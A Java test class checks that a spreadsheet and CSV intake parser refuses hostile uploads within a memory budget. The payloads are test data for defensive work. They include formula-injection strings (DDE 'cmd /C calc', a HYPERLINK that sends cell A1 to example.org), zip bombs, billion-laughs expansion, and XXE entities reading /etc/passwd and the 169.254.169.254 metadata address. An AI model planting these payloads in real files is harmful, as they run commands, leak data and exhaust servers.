package io.communitycloud.exchange.intake.format;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import io.communitycloud.exchange.intake.format.Column.Kind;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipFile;
import org.apache.commons.compress.utils.SeekableInMemoryByteChannel;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Files made to be run, to swell or to be read in two ways: refused, in little memory, and said to be what they are. */
class HostileFilesTest {

    private static final long MEBI = 1024L * 1024;

    /** What a refusal may cost; a bomb of this size would be a gigabyte and more. */
    private static final long MOST_ALLOCATED = 400 * MEBI;

    private static final String SHEET = "xl/worksheets/sheet1.xml";
    private static final String NUMBER = "310199196203050014";
    private static final List<Column> COLUMNS = List.of(
            new Column("姓名", "name", Kind.NAME, null, null, true, null),
            new Column("身份证号", "citizenNumber", Kind.CITIZEN_NUMBER, null, null, true, null),
            new Column("备注", "remark", Kind.TEXT, null, null, null, null));
    private static final Layout WORKBOOK =
            new Layout(Layout.Format.WORKBOOK, null, null, null, null, COLUMNS, "citizenNumber", 100, null);
    private static final Layout CSV =
            new Layout(Layout.Format.DELIMITED, "UTF-8", ",", true, null, COLUMNS, "citizenNumber", 100, null);

    static List<String> formulas() {
        return List.of(
                "=1+1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://example.org/?\"&A1,\"x\")",
                "=WEBSERVICE(\"http://example.org\")",
                "=DDE(\"cmd\";\"/C calc\";\"x\")",
                "+1+cmd|' /C calc'!A0",
                "-1+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                " =1+1",
                "\u3000=1+1",
                "\uFF1D1+1",
                "\uFF0B1+1",
                "\uFF0D1+1",
                "\uFF20SUM(1)");
    }

    @ParameterizedTest
    @MethodSource("formulas")
    void aTextThatASpreadsheetWouldRunIsNoText(String formula) throws IOException {
        RowsRead csv = RowsRead.of(
                ("姓名,身份证号,备注\n张三," + NUMBER + ",\"" + formula.replace("\"", "\"\"") + "\"\n")
                        .getBytes(StandardCharsets.UTF_8),
                CSV);
        assertThat(csv.problems()).containsExactly("1 备注 formula-cell");
        RowsRead sheet = RowsRead.of(
                workbook(rows -> {
                    line(rows, 0, "姓名", "身份证号", "备注");
                    line(rows, 1, "张三", NUMBER, formula);
                }),
                WORKBOOK);
        assertThat(sheet.problems()).containsExactly("1 备注 formula-cell");
    }

    @ParameterizedTest
    @ValueSource(strings = {"1E999999999", "-1E999999999", "1E-999999999", "NaN", "abc"})
    void aNumberOfAMillionDigitsIsNeitherWrittenOutNorTakenForOne(String number) throws IOException {
        String cells =
                "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>张三</t></is></c><c r=\"B2\" t=\"inlineStr\"><is><t>"
                        + NUMBER + "</t></is></c><c r=\"C2\"><v>" + number + "</v></c></row>";
        byte[] file = withSheet(sheet(header() + cells));
        try {
            assertThat(RowsRead.of(file, WORKBOOK).problems()).containsExactly("1 备注 not-a-number");
        } catch (FileRefused refused) {
            assertThat(refused.code()).isEqualTo("not-a-workbook");
        }
    }

    @TestFactory
    Stream<DynamicTest> aWorkbookThatSwellsIsRefusedInLittleMemory() throws IOException {
        Map<String, byte[]> bombs = new LinkedHashMap<>();
        bombs.put("a part of blanks", zip(Map.of(SHEET, filler(' ', 200))));
        bombs.put("a part that nobody asked for", with("xl/media/image1.png", filler('x', 200)));
        bombs.put("many parts", zip(parts(600)));
        bombs.put("many large parts", with(large(30)));
        bombs.put(
                "texts in common",
                with("xl/sharedStrings.xml", "<sst><si><t>" + "x".repeat(40_000_000) + "</t></si></sst>"));
        bombs.put("one long text", withSheet(sheet("<row><c t=\"str\"><v>" + "x".repeat(40_000) + "</v></c></row>")));
        bombs.put("one long number", withSheet(sheet("<row><c><v>" + "9".repeat(10_000_000) + "</v></c></row>")));
        bombs.put("a column far away", withSheet(sheet("<row r=\"1\"><c r=\"ZZZZZZ1\"><v>1</v></c></row>")));
        bombs.put("a row of a million cells", withSheet(sheet("<row>" + "<c/>".repeat(1_000_000) + "</row>")));
        bombs.put(
                "cells merged a hundred thousand times",
                withSheet("<worksheet><mergeCells>" + "<mergeCell ref=\"A1:B2\"/>".repeat(100_000)
                        + "</mergeCells></worksheet>"));
        bombs.put(
                "a sheet by another name",
                with("xl/media/sheet.bin", sheet("<row r=\"1\"><c r=\"ZZZZZZ1\"><v>1</v></c></row>")));
        return bombs.entrySet().stream()
                .map(bomb -> DynamicTest.dynamicTest(
                        bomb.getKey(), () -> refused(bomb.getValue(), WORKBOOK, "workbook-too-large")));
    }

    @TestFactory
    Stream<DynamicTest> aWorkbookThatReadsFromElsewhereOrInTwoWaysIsNone() throws IOException {
        String laughs = laughs();
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("a billion laughs in the sheet", withSheet(laughs + sheet("<row><c t=\"str\"><v>&i;</v></c></row>")));
        files.put(
                "a billion laughs in UTF-16",
                withSheet(("<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + laughs
                                + sheet("<row><c t=\"str\"><v>&i;</v></c></row>"))
                        .getBytes(StandardCharsets.UTF_16)));
        files.put(
                "a billion laughs far down",
                withSheet("<!--" + "x".repeat(100_000) + "-->" + laughs
                        + sheet("<row><c t=\"str\"><v>&i;</v></c></row>")));
        files.put(
                "a billion laughs in the texts",
                with("xl/sharedStrings.xml", laughs + "<sst><si><t>&i;</t></si></sst>"));
        files.put(
                "a file of ours",
                withSheet("<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>"
                        + sheet("<row><c t=\"str\"><v>&a;</v></c></row>")));
        files.put(
                "an address inside",
                withSheet("<!DOCTYPE x [<!ENTITY % a SYSTEM \"http://169.254.169.254/\"> %a;]>" + sheet("&b;")));
        files.put("a sheet twice", twice());
        files.put("a sheet that is cut off", withSheet("<worksheet><sheetData><row>"));
        files.put("no sheet at all", zip(Map.of("a.txt", "x".getBytes(StandardCharsets.US_ASCII))));
        files.put("a package that is cut off", Arrays.copyOf(twice(), 200));
        files.put("what is no package", filler('P', 1));
        return files.entrySet().stream()
                .map(file -> DynamicTest.dynamicTest(
                        file.getKey(), () -> refused(file.getValue(), WORKBOOK, "not-a-workbook")));
    }

    @TestFactory
    Stream<DynamicTest> aTextFileThatSwellsIsToldRowByRow() {
        Map<String, String> files = new LinkedHashMap<>();
        files.put("a line of eight million cells", ",".repeat(8_000_000));
        files.put("a cell of eight million characters", "张三," + NUMBER + "," + "x".repeat(8_000_000));
        files.put("a quote that never ends", "张三," + NUMBER + ",\"" + "\"\"".repeat(4_000_000));
        return files.entrySet().stream()
                .map(file -> DynamicTest.dynamicTest(file.getKey(), () -> {
                    byte[] bytes = ("姓名,身份证号,备注\n" + file.getValue() + "\n").getBytes(StandardCharsets.UTF_8);
                    long before = allocated();
                    assertThat(RowsRead.of(bytes, CSV).problems()).hasSize(1);
                    assertThat(allocated() - before).isLessThan(MOST_ALLOCATED);
                }));
    }

    private static void refused(byte[] file, Layout layout, String code) {
        long before = allocated();
        assertThatExceptionOfType(FileRefused.class)
                .isThrownBy(() -> RowsRead.of(file, layout))
                .satisfies(refused -> assertThat(refused.code()).isEqualTo(code));
        assertThat(allocated() - before).isLessThan(MOST_ALLOCATED);
    }

    /** What this thread has asked for since it began, given back or not. */
    private static long allocated() {
        return ((com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean())
                .getThreadAllocatedBytes(Thread.currentThread().threadId());
    }

    private static String laughs() {
        StringBuilder entities = new StringBuilder("<!DOCTYPE x [<!ENTITY a \"ha\">");
        for (char each = 'b'; each <= 'i'; each++) {
            String before = "&" + (char) (each - 1) + ";";
            entities.append("<!ENTITY ")
                    .append(each)
                    .append(" \"")
                    .append(before.repeat(10))
                    .append("\">");
        }
        return entities.append("]>").toString();
    }

    private static String header() {
        StringBuilder cells = new StringBuilder("<row r=\"1\">");
        for (int i = 0; i < COLUMNS.size(); i++) {
            cells.append("<c r=\"").append((char) ('A' + i)).append("1\" t=\"inlineStr\"><is><t>");
            cells.append(COLUMNS.get(i).name()).append("</t></is></c>");
        }
        return cells.append("</row>").toString();
    }

    private static String sheet(String rows) {
        return "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>" + rows
                + "</sheetData></worksheet>";
    }

    private static byte[] withSheet(String content) throws IOException {
        return with(SHEET, content);
    }

    private static byte[] withSheet(byte[] content) throws IOException {
        return with(SHEET, content);
    }

    private static byte[] with(String part, String content) throws IOException {
        return with(part, content.getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] with(String part, byte[] content) throws IOException {
        return with(Map.of(part, content));
    }

    /** A workbook as a library writes it, with other parts in the place of its own or beside them. */
    private static byte[] with(Map<String, byte[]> others) throws IOException {
        byte[] plain = workbook(rows -> line(rows, 0, "姓名", "身份证号", "备注"));
        Map<String, byte[]> parts = new LinkedHashMap<>();
        try (ZipFile zip = ZipFile.builder()
                .setSeekableByteChannel(new SeekableInMemoryByteChannel(plain))
                .get()) {
            for (ZipArchiveEntry entry : Collections.list(zip.getEntries())) {
                parts.put(entry.getName(), zip.getInputStream(entry).readAllBytes());
            }
        }
        parts.putAll(others);
        return zip(parts);
    }

    private static Map<String, byte[]> parts(int count) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        for (int i = 0; i < count; i++) {
            parts.put("xl/media/" + i + ".png", new byte[] {'x'});
        }
        return parts;
    }

    private static Map<String, byte[]> large(int count) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        for (int i = 0; i < count; i++) {
            parts.put("xl/media/" + i + ".png", filler('x', 1));
        }
        return parts;
    }

    private static byte[] filler(char with, int mebis) {
        byte[] filler = new byte[Math.toIntExact(mebis * MEBI)];
        Arrays.fill(filler, (byte) with);
        return filler;
    }

    /** The same name in two cases: one reader takes the first, another the last. */
    private static byte[] twice() throws IOException {
        return with(Map.of("xl/worksheets/SHEET1.xml", sheet("").getBytes(StandardCharsets.UTF_8)));
    }

    private static byte[] workbook(java.util.function.Consumer<Worksheet> filling) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (Workbook workbook = new Workbook(bytes, "test", "1.0")) {
            filling.accept(workbook.newWorksheet("1"));
        }
        return bytes.toByteArray();
    }

    private static void line(Worksheet sheet, int row, String... cells) {
        for (int column = 0; column < cells.length; column++) {
            sheet.value(row, column, cells[column]);
        }
    }

    private static byte[] zip(Map<String, byte[]> parts) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes, Charset.defaultCharset())) {
            for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
                zip.closeEntry();
            }
        }
        return bytes.toByteArray();
    }
}
